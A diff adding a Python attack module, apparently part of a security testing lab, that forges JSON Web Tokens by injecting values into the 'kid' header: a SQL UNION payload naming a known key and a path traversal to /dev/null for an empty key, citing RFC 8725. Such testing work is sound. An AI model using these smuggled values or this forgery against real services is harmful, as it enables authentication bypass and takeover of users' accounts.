@@ -1,0 +1,29 @@
+"""Let the token say which key checks it.
+
+Exploits `kid`, the name of a key, where it reaches SQL or a path unchecked: the attacker then
+names a key that is known.
+Source: RFC 8725, section 3.10 Do Not Trust Received Claims,
+https://www.rfc-editor.org/rfc/rfc8725#section-3.10
+"""
+
+from attacks.forge import HEADER, claims_about, signed
+from attacks.lab import Outcome, Target, attack, judge
+
+KEYS = {
+    "SQL in kid": ("x' UNION SELECT 'known-key", b"known-key"),
+    "path in kid": ("../../../../../../dev/null", b""),
+}
+
+
+@attack(door="token-unchecked")
+def run(target: Target) -> Outcome:
+    """Sign with a known key, and point to it."""
+    victim = target.enrol()
+    target.token_of(victim)
+    claims = claims_about(victim.username)
+    return judge(
+        {
+            trick: target.read(signed(claims, key, {**HEADER, "kid": kid}))
+            for trick, (kid, key) in KEYS.items()
+        }
+    )
